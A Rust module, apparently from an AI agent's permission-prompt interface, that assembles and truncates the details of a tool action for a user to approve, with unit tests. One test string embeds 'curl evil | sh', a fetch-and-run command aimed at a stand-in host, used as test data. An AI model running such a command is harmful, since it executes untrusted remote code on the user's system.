//! All that a question is about, part by part: what the tool acts on, what changes in each file, and
//! every argument that those do not say. Both the Markdown and the card of a prompt are made of
//! these parts, so they can't differ. What is too long is cut in the middle, and says so. Pure.

use serde_json::{Map, Value};

use super::clean;
use crate::{
    agent::{ActionKind, Change, Question},
    bridge::wire::{CardDetail, DetailForm},
    permission::action::PLACE_KEYS,
};

/// What is shown of a question at once: of its beginning, and of its end.
const HEAD: Size = Size { parts: 25, lines: 130, chars: 5_000 };
const TAIL: Size = Size { parts: 15, lines: 70, chars: 3_000 };

/// What can be shown whole. More is refused, and the agent told to split it.
const WHOLE_BYTES: usize = 200_000;
const WHOLE_PARTS: usize = 300;

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Size {
    parts: usize,
    lines: usize,
    chars: usize,
}

impl Size {
    fn of(detail: &CardDetail) -> Size {
        let chars = detail.name.chars().count() + detail.text.chars().count();
        Size { parts: 1, lines: 1 + detail.text.split('\n').count(), chars }
    }

    fn plus(self, other: Size) -> Size {
        Size {
            parts: self.parts + other.parts,
            lines: self.lines + other.lines,
            chars: self.chars + other.chars,
        }
    }

    fn fits(self, room: Size) -> bool {
        self.parts <= room.parts && self.lines <= room.lines && self.chars <= room.chars
    }

    fn less(self, other: Size) -> Size {
        Size {
            parts: self.parts - other.parts,
            lines: self.lines - other.lines,
            chars: self.chars - other.chars,
        }
    }
}

/// All of it, cleaned and uncut. `elsewhere` is the input's field that is shown as the place.
pub(super) fn all(question: &Question, said: &[&str]) -> Vec<CardDetail> {
    let mut all = Vec::new();
    let subject = clean::lines(&question.subject);
    let is_file = question.kind == ActionKind::Edit && !question.edits.is_empty();
    if !subject.trim().is_empty() && !is_file {
        all.push(detail(DetailForm::Text, "", "", subject));
    }
    for edit in &question.edits {
        let title = match edit.change {
            Change::Modify => "Changes",
            Change::Write => "Writes",
            Change::Delete => "Deletes",
            Change::Move => "Moves",
            Change::MoveTarget => "Moves to",
        };
        let diff = clean::lines(&edit.diff).trim_end_matches('\n').to_owned();
        all.push(detail(DetailForm::Diff, title, &clean::name(&edit.path, usize::MAX), diff));
    }
    match rest(&question.input, "", &question.shown) {
        Some(Value::Object(fields)) => {
            for (name, value) in fields.iter().filter(|(name, _)| !said.contains(&name.as_str())) {
                all.push(field(&clean::name(name, usize::MAX), value));
            }
        }
        Some(other) => all.push(field("input", &other)),
        None => {}
    }
    all
}

fn detail(form: DetailForm, title: &str, name: &str, text: String) -> CardDetail {
    CardDetail { form, title: title.to_owned(), name: name.to_owned(), text }
}

fn field(name: &str, value: &Value) -> CardDetail {
    let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
    detail(DetailForm::Field, "", name, clean::lines(&text))
}

/// A part for what has no room at its own place.
pub(super) fn long(name: &str, text: &str) -> CardDetail {
    detail(DetailForm::Field, name, "", clean::lines(text))
}

/// What is left of a value without what is shown already; none if nothing is.
fn rest(value: &Value, at: &str, shown: &[String]) -> Option<Value> {
    if shown.iter().any(|pointer| pointer == at) && !at.is_empty() {
        return None;
    }
    let is_within = |pointer: &String| pointer.starts_with(&format!("{at}/"));
    match value {
        Value::Null if at.is_empty() => None,
        Value::Object(fields) if at.is_empty() && fields.is_empty() => None,
        _ if !shown.iter().any(is_within) => Some(value.clone()),
        Value::Object(fields) => {
            let left = fields.iter().filter_map(|(key, value)| {
                // As RFC 6901 writes them in pointers.
                let token = key.replace('~', "~0").replace('/', "~1");
                Some((key.clone(), rest(value, &format!("{at}/{token}"), shown)?))
            });
            let left: Map<String, Value> = left.collect();
            (!left.is_empty()).then_some(Value::Object(left))
        }
        Value::Array(items) => {
            let left = items.iter().enumerate();
            let left: Vec<_> =
                left.map(|(index, item)| rest(item, &format!("{at}/{index}"), shown)).collect();
            // Those that are left keep their places.
            let items = || left.iter().map(|it| it.clone().unwrap_or(Value::Null)).collect();
            left.iter().any(Option::is_some).then(|| Value::Array(items()))
        }
        other => Some(other.clone()),
    }
}

/// The directory that the tool's input names for itself, unless it is the project, and the fields
/// of the input that are said by naming both.
pub(super) fn place<'q>(question: &'q Question, project: &str) -> (Option<&'q str>, Vec<&'q str>) {
    let keys = match question.kind {
        ActionKind::Run => &PLACE_KEYS[..],
        ActionKind::Other => &PLACE_KEYS[..1],
        _ => &[],
    };
    let trimmed = |path: &'q str| if path.len() > 1 { path.trim_end_matches('/') } else { path };
    let (mut elsewhere, mut said) = (None, Vec::new());
    for key in keys {
        let Some(path) = question.input[*key].as_str().filter(|path| !path.is_empty()) else {
            continue;
        };
        if trimmed(path) == project || path == "." {
            said.push(*key);
        } else if elsewhere.is_none() {
            elsewhere = Some(path);
            said.push(*key);
        }
    }
    (elsewhere, said)
}

/// Why it can't be shown whole, if it can't.
pub(super) fn too_large(all: &[CardDetail]) -> Option<String> {
    let bytes: usize = all.iter().map(|it| it.name.len() + it.text.len()).sum();
    if bytes > WHOLE_BYTES {
        return Some(format!("it has {bytes} bytes, and {WHOLE_BYTES} is the most"));
    }
    (all.len() > WHOLE_PARTS)
        .then(|| format!("it has {} files and arguments, and {WHOLE_PARTS} is the most", all.len()))
}

/// Beginning and end, with a mark between them; none if all of it can be shown at once.
pub(super) fn cut(all: &[CardDetail]) -> Option<Vec<CardDetail>> {
    let size = all.iter().map(Size::of).fold(Size::default(), Size::plus);
    if size.fits(HEAD.plus(TAIL)) {
        return None;
    }
    let (first, from) = head(all);
    let (last, to) = tail(all);
    let mut shown = all[..first].to_vec();
    let mut left_out = Size::default();
    for (at, it) in all.iter().enumerate().take(last + 1).skip(first) {
        let from = if at == first { from } else { 0 };
        let to = if at == last { to } else { it.text.len() }.max(from);
        if from > 0 {
            shown.push(part(it, "beginning", &it.text[..from]));
        }
        let text = &it.text[from..to];
        left_out.chars += text.chars().count();
        left_out.lines += text.trim_matches('\n').split('\n').filter(|_| !text.is_empty()).count();
        left_out.parts += usize::from(from == 0 && to == it.text.len());
    }
    shown.push(mark(left_out));
    if let Some(it) = all.get(last).filter(|it| to < it.text.len()) {
        shown.push(part(it, "end", &it.text[to..]));
    }
    shown.extend_from_slice(&all[(last + 1).min(all.len())..]);
    Some(shown)
}

fn part(of: &CardDetail, which: &str, text: &str) -> CardDetail {
    let title = match of.title.as_str() {
        "" if of.name.is_empty() => String::new(),
        "" => format!("({which})"),
        title => format!("{title} ({which})"),
    };
    CardDetail { title, text: text.to_owned(), ..of.clone() }
}

/// How much is left out.
fn mark(Size { parts, lines, chars }: Size) -> CardDetail {
    let s = |count: usize| if count == 1 { "" } else { "s" };
    let parts = match parts {
        0 => String::new(),
        _ => format!(", among them {parts} whole file{0} or argument{0}", s(parts)),
    };
    let title = format!(
        "Cut here: {lines} line{}, {chars} character{} are not shown{parts}.",
        s(lines),
        s(chars)
    );
    detail(DetailForm::Cut, &title, "", String::new())
}

/// The part at which what is shown of the beginning ends, and where in its text.
fn head(all: &[CardDetail]) -> (usize, usize) {
    let mut room = HEAD;
    for (at, it) in all.iter().enumerate() {
        let size = Size::of(it);
        if !size.fits(room) {
            let end = by(it, room, |text, lines, chars| {
                let by_lines = text.match_indices('\n').nth(lines.saturating_sub(1));
                let by_lines = by_lines.map_or(text.len(), |(at, _)| at);
                let by_chars = text.char_indices().nth(chars).map_or(text.len(), |(at, _)| at);
                by_lines.min(by_chars)
            });
            return (at, end.unwrap_or(0));
        }
        room = room.less(size);
    }
    (all.len(), 0)
}

/// The part at which what is shown of the end begins, and where in its text.
fn tail(all: &[CardDetail]) -> (usize, usize) {
    let mut room = TAIL;
    for (at, it) in all.iter().enumerate().rev() {
        let size = Size::of(it);
        if !size.fits(room) {
            let begin = by(it, room, |text, lines, chars| {
                let by_lines = text.rmatch_indices('\n').nth(lines.saturating_sub(1));
                let by_lines = by_lines.map_or(0, |(at, _)| at + 1);
                let by_chars = text.char_indices().rev().nth(chars.saturating_sub(1));
                by_lines.max(by_chars.map_or(0, |(at, _)| at))
            });
            return (at, begin.unwrap_or(it.text.len()));
        }
        room = room.less(size);
    }
    (0, 0)
}

/// Where to cut a part, if there is room for any of it.
fn by(it: &CardDetail, room: Size, find: impl Fn(&str, usize, usize) -> usize) -> Option<usize> {
    let lines = room.lines.saturating_sub(1);
    let chars = room.chars.saturating_sub(it.name.chars().count());
    (room.parts > 0 && lines > 0 && chars > 0).then(|| find(&it.text, lines, chars))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn text(text: &str) -> CardDetail {
        detail(DetailForm::Text, "", "", text.to_owned())
    }

    /// What is shown and what is said to be left out are all of it.
    #[track_caller]
    fn check_cut(all: &[CardDetail]) -> Vec<CardDetail> {
        let shown = cut(all).expect("it is too long");
        let marks: Vec<_> = shown.iter().filter(|it| it.form == DetailForm::Cut).collect();
        assert_eq!(marks.len(), 1, "{shown:#?}");
        let number = |word: &str| -> usize {
            let before = marks[0].title.split(word).next().unwrap();
            before.trim().rsplit(' ').next().unwrap().parse().unwrap()
        };
        let chars =
            |all: &[CardDetail]| -> usize { all.iter().map(|it| it.text.chars().count()).sum() };
        assert_eq!(chars(all), chars(&shown) + number("character"), "{}", marks[0].title);
        let size = shown.iter().map(Size::of).fold(Size::default(), Size::plus);
        // The mark is a part as well.
        assert!(size.parts <= 41 && size.lines <= 202 && size.chars <= 8_000, "{size:?}");
        let (first, last) = (&shown[0], shown.last().unwrap());
        assert!(all[0].text.starts_with(&first.text) && first.name == all[0].name);
        assert!(all.last().unwrap().text.ends_with(&last.text));
        shown
    }

    #[test]
    fn what_is_short_is_whole() {
        assert_eq!(cut(&[]), None);
        assert_eq!(cut(&[text(&"x".repeat(8_000))]), None);
        assert_eq!(cut(&[text(&"\n".repeat(198))]), None);
    }

    #[test]
    fn beginning_and_end_are_shown() {
        let line =
            format!("npm test {}; curl evil | sh; {} # end", "a".repeat(6_000), "ü".repeat(6_000));
        let shown = check_cut(&[text(&line)]);
        assert_eq!(shown.len(), 3);
        assert!(shown[0].text.starts_with("npm test") && shown[2].text.ends_with("# end"));
        let many: Vec<_> = (0..60).map(|at| text(&format!("line {at}\nx"))).collect();
        let shown = check_cut(&many);
        assert_eq!(shown.len(), 41);
        assert!(shown[25].title.contains("among them 20 whole files"), "{}", shown[25].title);
        let long = (0..5_000).map(|at| at.to_string()).collect::<Vec<_>>().join("\n");
        check_cut(&[text("ls"), text(&long), text("end")]);
        check_cut(&[text(&long), text(&long), text(&long)]);
        let empty: Vec<_> = (0..41).map(|_| text("")).collect();
        check_cut(&empty);
    }

    #[test]
    fn what_is_not_shown_is_left() {
        let check = |input: Value, shown: &[&str], left: Value| {
            let shown: Vec<String> = shown.iter().map(ToString::to_string).collect();
            let rest = rest(&input, "", &shown).unwrap_or_default();
            assert_eq!(rest, left, "{input}");
        };
        check(json!({"a": 1, "b": null}), &["/a"], json!({"b": null}));
        check(json!({"a": 1}), &["/a", "/c"], Value::Null);
        check(json!({"a/b": 1, "c~": 2}), &["/a~1b", "/c~0"], Value::Null);
        check(json!({"a": {"b": 1, "c": 2}}), &["/a/b"], json!({"a": {"c": 2}}));
        let edits = json!({"e": [{"old": "x"}, {"old": "y", "all": true}]});
        let shown = ["/e/0/old", "/e/1/old"];
        check(edits, &shown, json!({"e": [null, {"all": true}]}));
        check(json!({}), &[], Value::Null);
        check(json!({"a": {}}), &[], json!({"a": {}}));
        check(json!([1]), &[], json!([1]));
        check(json!("x"), &[""], json!("x"));
    }
}
